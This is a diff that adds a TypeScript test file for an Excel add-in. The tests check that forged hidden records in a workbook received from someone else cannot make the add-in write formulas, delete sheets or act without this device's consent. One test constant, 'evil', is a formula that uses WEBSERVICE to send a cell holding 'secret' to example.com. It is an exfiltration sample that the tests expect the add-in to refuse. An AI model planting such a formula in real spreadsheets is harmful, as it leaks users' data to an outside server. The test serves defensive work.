@@ -1,0 +1,157 @@
+/// <reference types="office-js" />
+/** A workbook may come with hidden records that somebody made: opening it writes, removes and claims nothing. */
+import { toNameFormulas } from "../../src/excel/kept-text";
+import { createPinnedCells } from "../../src/excel/pinned-cells";
+import { fingerprint, namesOfPin } from "../../src/excel/pin-records";
+import { splitFormula } from "../../src/excel/formula-references";
+import type { Addin } from "../../src/runtime/addin-status";
+import { automateWorkbook } from "./automated-workbook";
+import { deviceWatch } from "./device-watch";
+
+const evil = '=RENT.PRICE(A1)&WEBSERVICE("https://example.com/?"&A1)';
+let device = new Map<string, string>();
+const host = automateWorkbook({ scripts: ["automation.js"] });
+const addin = (): Addin => host.workbook.window["compsheet"] as Addin;
+
+const nameOf = (prefix: string, index: number): string => `${prefix}${index === 0 ? "" : `.${index + 1}`}`;
+const intentNames = (intent: object): [string, string][] =>
+  toNameFormulas([{ text: JSON.stringify({ form: 1, kind: "pin", ...intent }) }]).map((formula, index) => [
+    nameOf("_compsheet.freezing", index),
+    formula,
+  ]);
+const pinNames = (formula: string, value: unknown = 7): [string, string][] =>
+  namesOfPin(
+    {
+      id: 1,
+      kind: "pin",
+      pieces: splitFormula(formula, "Deal"),
+      rows: [fingerprint([value])],
+      formats: [["General"]],
+      keys: [],
+    },
+    "Deal!$B$2",
+  ).map(({ name, formula: kept }) => [name, kept]);
+
+/** As a workbook that somebody sends. */
+async function openWith(names: readonly (readonly [string, string])[], storage = new Map<string, string>()) {
+  device = storage;
+  await host.open({
+    localStorage: device,
+    sheets: [{ name: "Deal", cells: { A1: "secret", B2: 7 } }, { name: "Empty" }],
+  });
+  await host.excel.run(async (context) => {
+    for (const [name, formula] of names) context.workbook.names.add(name, formula).visible = false;
+    await context.sync();
+  });
+  await host.reopen({ localStorage: device });
+  await addin()
+    .pins.settle({ by: "opening" })
+    .catch(() => undefined);
+  await host.workbook.settled();
+}
+
+const image = (): unknown => [
+  host.workbook.getRange("Deal!A1:B2").formulas,
+  host.workbook.engine.workbook.getSheets().map((sheet) => sheet.getSheetName()),
+  host.workbook.save().names,
+];
+
+test.each([
+  ["a kept formula", "=RENT.PRICE(A1)", {}],
+  ["a kept formula that asks a network", evil, {}],
+  ["an empty sheet to remove", "=RENT.PRICE(A1)", { sheet: "Empty" }],
+  ["a device's name", "=RENT.PRICE(A1)", { by: "tests", at: 0, token: "guess" }],
+])("opening a workbook with a forged intent changes nothing: %s", async (_, formula, more) => {
+  for (const action of ["keep", "bring back"]) {
+    await openWith(
+      [...pinNames(formula), ...intentNames({ action, ids: "1", overwrite: true, ...more })],
+      new Map([["compsheet.device", "tests"]]),
+    );
+    const [cells, sheets, names] = image() as [unknown, unknown, unknown[]];
+    expect([cells, sheets, names.length]).toEqual([
+      [
+        ["secret", ""],
+        ["", 7],
+      ],
+      ["Deal", "Empty"],
+      2,
+    ]);
+    // Other actions are no consent to it.
+    const before = image();
+    for (const act of [() => addin().pins.pin("workbook"), () => addin().pins.unpin("workbook")])
+      await expect(act()).rejects.toThrow("this device did not begin it");
+    expect(image()).toEqual(before);
+    expect((await addin().pins.cutFormulas()).map(({ address, formula: shown }) => [address, shown])).toEqual([
+      ["Deal!B2", formula],
+    ]);
+    host.workbook.close();
+  }
+});
+
+test("a forged conversion removes no stored answers", async () => {
+  await openWith(intentNames({ action: "hand over", kind: "handover", ids: "" }));
+  expect(await addin().pins.isCut()).toBe(true);
+  await expect(addin().pins.settle({ by: "action" })).rejects.toThrow("this device did not begin it");
+});
+
+test("the person who has seen the formulas may have them, without the empty sheet, or leave the cells as they are", async () => {
+  const names = [...pinNames("=RENT.PRICE(A1)"), ...intentNames({ action: "keep", ids: "1", sheet: "Empty" })];
+  await openWith(names);
+  expect(await addin().pins.settle()).toBe("keep");
+  await host.workbook.settled();
+  expect(host.workbook.getRange("Deal!B2").formulas).toEqual([["=RENT.PRICE(A1)"]]);
+  expect(host.workbook.engine.workbook.getSheets()).toHaveLength(2);
+  expect(host.workbook.save().names).toEqual([]);
+  host.workbook.close();
+
+  await openWith(names);
+  await addin().pins.dismiss();
+  expect(await addin().pins.isCut()).toBe(false);
+  expect((await addin().pins.list()).map(({ formula, state }) => [formula, state])).toEqual([
+    ["=RENT.PRICE(A1)", "pinned"],
+  ]);
+  expect(host.workbook.getCell("Deal!B2")).toBe(7);
+});
+
+test("what this device began is put in order when it is opened, but for formulas that do more than calculate", async () => {
+  for (const [formula, isWritten] of [
+    ["=IF(A1>0,12*RENT.PRICE(A1),0)", true],
+    [evil, false],
+  ] as const) {
+    const storage = new Map<string, string>();
+    const intent = deviceWatch(storage).sign({ action: "keep", kind: "pin", ids: [1] });
+    await openWith([...pinNames(formula), ...intentNames({ ...intent, ids: "1" })], storage);
+    expect(host.workbook.getRange("Deal!B2").formulas).toEqual([[isWritten ? formula : 7]]);
+    expect(await addin().pins.isCut()).toBe(!isWritten);
+    host.workbook.close();
+  }
+});
+
+test("records that claim millions of cells or pins are left unread, and whole; others are read", async () => {
+  const [[name = "", formula = ""] = []] = pinNames("=RENT.PRICE(A1)");
+  const claims = [
+    formula.replace('[""General"",1]', '[""General"",60000000]'),
+    formula.replace('""width"":1', '""width"":60000000').replace('[""General"",1]', '[""General"",60000000]'),
+    formula.replace("Deal!$B$2", "Deal!$A:$XFD"),
+    formula.replace('""pieces"":[', '""pieces"":[[5],'),
+    formula.replace('""rows"":[', '""rows"":null,""x"":['),
+  ];
+  expect(new Set([formula, ...claims]).size).toBe(6);
+  const names = claims.map((claim, index): [string, string] => [`_compsheet.frozen.${index + 2}`, claim]);
+  await openWith([[name, formula], ...names]);
+  const pins = createPinnedCells();
+  expect((await pins.list()).map(({ id, state }) => [id, state])).toEqual([
+    [1, "pinned"],
+    ...claims.map((_, index) => [index + 2, "unreadable"]),
+  ]);
+  expect(await pins.unpin("workbook")).toEqual({ restored: 1, changed: [] });
+  await host.workbook.settled();
+  expect(host.workbook.save().names).toHaveLength(claims.length);
+});
+
+test("an intent that names millions of pins is neither carried out nor removed", async () => {
+  await openWith(intentNames({ action: "keep", ids: "1-50000000,1--50,7-3" }));
+  await expect(addin().pins.settle()).rejects.toThrow("can't be read");
+  expect(await addin().pins.cutFormulas()).toEqual([]);
+  expect(host.workbook.save().names).toHaveLength(1);
+});
